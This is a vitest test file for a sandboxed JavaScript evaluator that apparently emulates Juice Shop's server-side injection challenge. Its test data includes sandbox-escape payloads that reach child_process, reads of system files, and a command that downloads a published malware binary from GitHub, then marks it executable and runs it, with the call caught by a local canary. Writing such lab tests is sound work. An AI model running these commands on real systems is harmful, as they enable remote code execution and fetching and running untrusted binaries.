import { afterAll, describe, expect, it } from 'vitest'
import { openCanary } from './canary-server.js'
import { childProcess, newSandbox, now, patient } from './new-sandbox.js'

const sandbox = newSandbox()
const engine = patient(sandbox.engine)
afterAll(() => sandbox.close())

const textOf = async (code: string) => {
  const evaluation = await engine.evaluate(code)
  return evaluation.kind === 'value' ? evaluation.text : `${evaluation.reason}: ${evaluation.message}`
}

describe('values', () => {
  it.each([
    ['7*7', '49'],
    ['var a = 1; a + 1', '2'],
    ['process', '[object process]'],
    ['process.version + process.platform', 'v20.19.5linux'],
    ['process.cwd()', '/juice-shop'],
    ['process.env.USER + process.env.HOME', 'juicer/home/juicer'],
    ['global === globalThis', 'true'],
    ['[1, [2, 3]]', '1,2,3'],
    ['({})', '[object Object]'],
    ['Promise.resolve(1)', '[object Promise]'],
    ['Symbol.iterator', 'Symbol(Symbol.iterator)'],
    ['Date.now()', String(now)],
    ['new Date().toISOString()', new Date(now).toISOString()],
    ['String(new Date().getTimezoneOffset())', '0'],
    ["Buffer.from('ü🧃').toString('base64')", 'w7zwn6eD'],
    ["Buffer.from('w7zwn6eD', 'base64') + Buffer.from('ff', 'latin1').toString('hex')", 'ü🧃6666'],
    ["this.constructor.constructor('return process.pid')()", '1'],
    ["require('path').join('/a', '../b', 'c.txt') + require('path').extname('x.md')", '/b/c.txt.md'],
    ["require('os').hostname() + require('os').userInfo().username", 'juice-pressjuicer'],
  ])('%s is %s', async (code, text) => {
    expect(await engine.evaluate(code)).toEqual({ kind: 'value', text, truthy: true })
  })

  it.each(['', '0', 'null', 'undefined', 'false', "''", 'NaN'])('%j is told as false', async (code) => {
    expect(await engine.evaluate(code)).toMatchObject({ kind: 'value', truthy: false })
  })

  it('sees copies of what it is given', async () => {
    const user = { name: 'jim', tags: ['a'] }
    const code = "user.name = 'bender'; user.tags.push('b'); user.tags.length + process.version.length"
    expect(await engine.evaluate(code, { user })).toMatchObject({ text: '10' })
    expect(user).toEqual({ name: 'jim', tags: ['a'] })
  })

  it('starts afresh each time', async () => {
    await engine.evaluate('globalThis.left = 1; Object.prototype.left = 2; Array.prototype.map = 3; JSON.stringify = 4')
    expect(await textOf('typeof left + typeof ({}).left + typeof [].map + JSON.stringify([1])')).toBe(
      'undefinedundefinedfunction[1]',
    )
  })

  it.each([
    ['foo', "threw: ReferenceError: 'foo' is not defined"],
    ['throw 1', 'threw: Uncaught 1'],
    ["require('nope')", "threw: Error: Cannot find module 'nope'"],
    ["require('fs').readFileSync('/nope')", "threw: Error: ENOENT: no such file or directory, open '/nope'"],
    ["process.binding('spawn_sync')", 'threw: Error: No such module: spawn_sync'],
    ['process.exit(1)', 'threw: Error: process.exit is not supported'],
    ['({ toString() { throw new TypeError("no") } })', 'threw: TypeError: no'],
    ['Object.create(null)', 'threw: TypeError'],
    ['1 +', 'threw: SyntaxError'],
  ])('%s fails as it would in Node', async (code, text) => {
    expect(await textOf(code)).toContain(text)
  })
})

describe('the machine around it', () => {
  it.each([
    [`${childProcess}.execSync('id')`, 'uid=1001(juicer) gid=1001(juicer) groups=1001(juicer)\n'],
    [`process.mainModule.constructor._load('child_process').execSync('whoami', { encoding: 'utf8' })`, 'juicer\n'],
    [`require('child_process').spawnSync('cat', ['/etc/hostname']).stdout.toString()`, 'juice-press\n'],
    [`require('node:child_process').execFileSync('echo', ['$HOME; id'])`, '$HOME; id\n'],
    [`${childProcess}.exec('id')`, '[object Object]'],
    [`${childProcess}.execSync('echo $A', { env: { A: 'b' }, cwd: '/tmp' })`, 'b\n'],
    ["require('fs').readFileSync('/etc/hostname', 'utf8')", 'juice-press\n'],
    [
      "require('fs').readdirSync('.')",
      'build,config,ctf.key,frontend,ftp,lib,package.json,routes,server.ts,swagger.yml,views',
    ],
    ["require('fs').existsSync('/nope') + '' + require('fs').statSync('/tmp').isDirectory()", 'falsetrue'],
    ["require('/juice-shop/package.json').name", 'juice-shop'],
  ])('%s', async (code, text) => {
    expect(await textOf(code)).toBe(text)
  })

  it('keeps what was written, and loses nothing when its engine is replaced', async () => {
    await textOf("require('fs').writeFileSync('/tmp/kept', 'still here')")
    expect(await textOf(`${childProcess}.execSync('cat /tmp/kept')`)).toBe('still here')
    expect(await textOf('const all = []; for (;;) all.push(new Uint8Array(1e6))')).toContain('memory: ')
    expect(await textOf(`${childProcess}.execSync('cat /tmp/kept; rm /tmp/kept')`)).toBe('still here')
  })

  it('runs callbacks, timers and promises before it is done', async () => {
    await textOf(`
      const { exec } = ${childProcess}
      exec('echo called', (error, stdout) => setTimeout(() => require('fs').appendFileSync('/tmp/log', stdout)))
      require('fs').promises.readFile('/etc/hostname').then((text) => require('fs').appendFileSync('/tmp/log', text))
      exec('echo heard').stdout.on('data', (data) => require('fs').appendFileSync('/tmp/log', data))`)
    expect((await textOf("require('fs').readFileSync('/tmp/log', 'utf8')")).split('\n').sort().join(' ')).toBe(
      ' called heard juice-press',
    )
  })

  it('downloads the published sample, which calls the lab', async () => {
    const lab = await openCanary()
    sandbox.outbound.setOwnAddress({ host: '127.0.0.1', port: lab.port })
    const published = 'https://github.com/J12934/juicy-malware/blob/master/juicy_malware_linux_amd_64?raw=true'
    const code = `${childProcess}.exec('wget -O malware ${published} && chmod +x malware && ./malware')`
    expect(await textOf(code)).toBe('[object Object]')
    expect(lab.requests).toEqual(['GET /solve/challenges/server-side?key=tRy_H4rd3r_n0thIng_iS_Imp0ssibl3'])
    expect(
      await textOf("require('http').get('http://localhost:3000/http'); fetch('http://localhost:3000/fetch')"),
    ).toBe('[object Promise]')
    expect(lab.requests.slice(1).sort()).toEqual(['GET /fetch', 'GET /http'])
    lab.close()
  })

  it('sends no more than a few requests for one script', async () => {
    const lab = await openCanary()
    sandbox.outbound.setOwnAddress({ host: '127.0.0.1', port: lab.port })
    await textOf(`${childProcess}.exec('${'wget -q -O /dev/null http://localhost:3000/;'.repeat(20)}')`)
    expect(lab.requests).toHaveLength(5)
    lab.close()
  })

  it('waits five seconds for all requests of one script together', async () => {
    const slow = await openCanary((_request, response) => setTimeout(() => response.end('late'), 1700))
    sandbox.outbound.setOwnAddress({ host: '127.0.0.1', port: slow.port })
    const asking = textOf(`${childProcess}.execSync('${'wget -q -O- http://localhost:3000/;'.repeat(5)}')`)
    expect(await textOf('1 + 1')).toBe('2')
    expect(await asking).toMatch(/timed out(\n.*too many requests){2}/)
    expect(slow.requests).toHaveLength(3)
    slow.close()
  })
})

describe('the engine itself', () => {
  it('runs nothing when the hazard is closed', async () => {
    const closed = newSandbox({ runsScripts: false })
    expect(await closed.engine.evaluate('1')).toMatchObject({ kind: 'failed', reason: 'closed' })
    await closed.close()
  })

  it('takes no script that is too long', async () => {
    expect(await engine.evaluate(' '.repeat(64 * 1024 + 1))).toMatchObject({ kind: 'failed', reason: 'too-long' })
    expect(await textOf('1'.padEnd(64 * 1024))).toBe('1')
  })

  it('runs nothing for a request that a script of the lab is waiting for', async () => {
    const nested = newSandbox({ hops: () => 1 })
    expect(await nested.engine.evaluate('1')).toMatchObject({ kind: 'failed', reason: 'busy' })
    await nested.close()
  })

  it('lets a few wait and refuses the others', async () => {
    const evaluations = await Promise.all(Array.from({ length: 40 }, (_, index) => engine.evaluate(`${index}`)))
    const values = evaluations.flatMap((evaluation) => (evaluation.kind === 'value' ? [evaluation.text] : []))
    expect(values).toEqual(Array.from({ length: 16 }, (_, index) => `${index}`))
    expect(evaluations.at(-1)).toMatchObject({ kind: 'failed', reason: 'busy' })
  })

  it('can be closed while it works, and answers afterwards all the same', async () => {
    const short = newSandbox()
    const running = short.engine.evaluate('for (;;);')
    const waiting = short.engine.evaluate('1')
    await short.close()
    expect(await running).toMatchObject({ kind: 'failed' })
    expect(await waiting).toMatchObject({ kind: 'failed', reason: 'closed' })
    expect(await short.engine.evaluate('1')).toMatchObject({ kind: 'failed', reason: 'closed' })
    await short.close()
  })
})
